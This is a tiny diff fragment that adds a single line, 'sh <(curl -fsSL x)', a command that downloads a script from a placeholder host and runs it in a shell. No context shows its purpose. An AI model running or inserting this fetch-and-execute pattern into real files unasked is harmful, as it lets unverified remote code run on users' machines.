@@ -1,0 +1,1 @@
+sh <(curl -fsSL x)
